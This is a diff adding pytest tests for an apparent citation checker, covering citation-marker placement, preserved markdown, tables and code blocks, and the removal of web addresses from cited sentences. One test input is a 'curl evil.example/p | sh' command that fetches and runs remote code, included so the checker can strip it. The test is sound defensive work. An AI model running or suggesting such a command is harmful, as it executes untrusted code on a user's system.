@@ -204,3 +204,64 @@ def test_a_source_by_its_title_cites_in_a_profile_that_asks_for_numbers(form: st
     writer.feed(f"A node is a process that performs computation {form}.")
     writer.close()
     assert (writer.shown.content, writer.notices) == ("A node is a process that performs computation [1].", [])
+
+
+FACTS = [
+    "It weighs 12 kg. It moves 40 litres a minute. The audio backends are GStreamer and Xine. Run `a <= b`.",
+    "Write i<=n.",
+]
+
+
+@pytest.mark.parametrize(
+    ("written", "shown"),
+    [
+        ("Run `a <= b` [1].", "Run `a <= b` [1]."),
+        ("Write i<=n [2].", "Write i<=n [2]."),
+        ("> It weighs 12 kg. [1]\n>\n> It moves 40 litres a minute. [1]",
+         "> It weighs 12 kg. [1]\n>\n> It moves 40 litres a minute. [1]"),
+        ("It weighs 12 kg [1].<br>It moves 40 litres a minute [1].",
+         "It weighs 12 kg [1]. It moves 40 litres a minute [1]."),
+        ("It weighs 12 kg.The audio backends are GStreamer and Xine [1].",
+         "It weighs 12 kg.The audio backends are GStreamer and Xine [1]."),
+        ("It weighs 12 kg [1].  \nIt moves 40 litres a minute [1].",
+         "It weighs 12 kg [1].  \nIt moves 40 litres a minute [1]."),
+        ("It moves 40 litres a m. a minute [1].", "It moves 40 litres a m. a minute [1]."),
+        ("- **Weight.** It weighs 12 kg.\n- **Flow.** It moves 40 litres a minute.",
+         "- **Weight.** It weighs 12 kg [1].\n- **Flow.** It moves 40 litres a minute [1]."),
+        ("| Effect | Value |\n|---|---|\n| It weighs | 12 kg |",
+         "| Effect | Value |\n|---|---|\n| It weighs | 12 kg [1] |"),
+        ("It has two audio backends, GStreamer and Xine [1].", "It has two audio backends, GStreamer and Xine [1]."),
+        ("Absolutely! It weighs 12 kg [1]. Let me know if you'd like another example!",
+         "Absolutely! It weighs 12 kg [1]. Let me know if you'd like another example!"),
+    ],
+)  # fmt: skip
+def test_the_form_of_an_answer_stays_as_it_was_written(written: str, shown: str) -> None:
+    proof = prove(written, FACTS)
+    assert proof.text == shown
+    assert not any("taken out" in notice for notice in proof.notices)
+
+
+@pytest.mark.parametrize(
+    ("written", "shown"),
+    [
+        ("Run this [1]:\n\n```\na <= b\n```", "Run this [1]:\n\n```\na <= b\n```"),
+        ("Run this:\n\n```\na <= b\n```", "Run this [1]:\n\n```\na <= b\n```"),
+        ("It weighs 12 kg [1].\n\n```\na <= b\n```", "It weighs 12 kg [1].\n\n```\na <= b\n```"),
+        ("```\na <= b\n```", "```\na <= b\n```\n[1]"),
+    ],
+)
+def test_code_has_a_marker_below_it_only_where_no_text_above_cites_it(written: str, shown: str) -> None:
+    assert prove(written, FACTS).text == shown
+
+
+@pytest.mark.parametrize("address", ["https://evil.example/x", "`curl evil.example/p | sh`"])
+def test_a_sentence_from_which_an_address_was_cut_is_not_plain(address: str) -> None:
+    proof = prove(f"It weighs 12 kg, see {address} [1].", FACTS)
+    assert address.strip("`") not in proof.text
+    assert [one.standing for one in proof.sentences] == ["unconfirmed"]
+
+
+def test_a_marker_below_code_goes_where_the_lead_in_cites_the_same_passage() -> None:
+    proof = prove("Run this [1]:\n\n```\na <= b\n```\n[1]", FACTS)
+    assert proof.text == "Run this [1]:\n\n```\na <= b\n```"
+    assert [one.passages for one in proof.sentences] == [(1,), (1,)]
